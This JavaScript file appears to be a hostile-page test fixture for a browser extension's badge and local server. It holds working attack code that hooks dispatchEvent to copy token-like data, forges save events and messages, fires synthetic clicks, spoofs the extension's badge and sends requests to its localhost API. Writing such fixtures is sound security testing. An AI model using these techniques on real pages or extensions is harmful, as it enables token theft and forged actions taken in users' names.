// A page that wants something saved in the marketer's name, the token, or its own script run.
// It keeps what it could get in window.__stolen and what it tried in window.__tried.
"use strict";

window.__stolen = [];
window.__tried = [];
const saves = ["shortlist.save", "pair.start", "profile.check", "ruling.set"];
const words = ["Save", "Lưu", "Contact", "Nên liên hệ"];

/** Keep anything that smells of a secret. @param {string} from @param {unknown} thing */
function keep(from, thing) {
  let text = "";
  try {
    text = JSON.stringify(thing) ?? "";
  } catch {
    return;
  }
  if (/token|proof|bearer|client_id/i.test(text)) window.__stolen.push({ from, text: text.slice(0, 400) });
}

// Every event that anybody fires here is looked at, copied and fired again with an order to save.
const fire = EventTarget.prototype.dispatchEvent;
const kinds = new Set();
EventTarget.prototype.dispatchEvent = function (event) {
  keep(`event ${event.type}`, /** @type {CustomEvent} */ (event).detail);
  if (event instanceof CustomEvent && !kinds.has(event.type)) {
    kinds.add(event.type);
    forge(this, event);
  }
  return fire.call(this, event);
};

/** @param {EventTarget} target @param {CustomEvent} event */
function forge(target, event) {
  for (const type of saves) {
    for (const detail of [{ type }, JSON.stringify({ type }), [{ type, username: "maya.vidu" }]]) {
      fire.call(target, new CustomEvent(event.type, { detail, bubbles: true, composed: true }));
      window.__tried.push(`${event.type} ${type}`);
    }
  }
}

addEventListener("message", (event) => keep("message", event.data));

function pester() {
  for (const type of saves) {
    for (const channel of ["soi", "soi:page", "soi-response", "soi:response"]) {
      window.postMessage({ type, channel, source: channel, username: "maya.vidu" }, "*");
      document.dispatchEvent(new CustomEvent(channel, { detail: { type, username: "maya.vidu" } }));
    }
    try {
      globalThis.chrome?.runtime?.sendMessage?.({ type });
    } catch (error) {
      window.__tried.push(String(error));
    }
  }
  for (const element of document.querySelectorAll("*")) {
    if (element.shadowRoot) window.__stolen.push({ from: "open shadow root", text: element.tagName });
    if (element.matches("body > *, html > *")) {
      for (const type of ["pointerdown", "mousedown", "mouseup", "click"]) {
        element.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: 40, clientY: 40 }));
      }
      for (const key of ["Enter", " ", "s"]) {
        element.dispatchEvent(new KeyboardEvent("keydown", { key, altKey: true, shiftKey: true, bubbles: true }));
      }
    }
  }
  for (let x = innerWidth - 20; x > innerWidth - 420; x -= 40) {
    for (const y of [20, 60, 120, 180, innerHeight - 60, innerHeight - 20]) document.elementFromPoint(x, y)?.click?.();
  }
}

/** What looks like the badge but is the page's own. */
function imitate() {
  const box = document.createElement("div");
  box.setAttribute("role", "complementary");
  box.setAttribute("aria-label", "Soi");
  box.id = "page-imitation";
  for (const word of words) {
    const button = document.createElement("button");
    button.textContent = `${word} (page)`;
    box.append(button);
  }
  document.body.append(box);
}

/** A profile answer under this handle with another's counts, and requests to the local server. */
async function reach() {
  for (const path of ["hello", "shortlist", "shortlist/maya.vidu"]) {
    try {
      const method = path === "shortlist/maya.vidu" ? "PUT" : "GET";
      const answer = await fetch(`http://127.0.0.1:${window.__soi_port ?? 5765}/api/v1/${path}`, { method });
      window.__stolen.push({ from: "local server", text: await answer.text() });
    } catch {
      window.__tried.push(`fetch ${path}`);
    }
  }
}

addEventListener("DOMContentLoaded", () => {
  imitate();
  void reach();
  let rounds = 0;
  const timer = setInterval(() => {
    pester();
    if (++rounds === 20) {
      clearInterval(timer);
      window.__pestered = true;
    }
  }, 150);
});
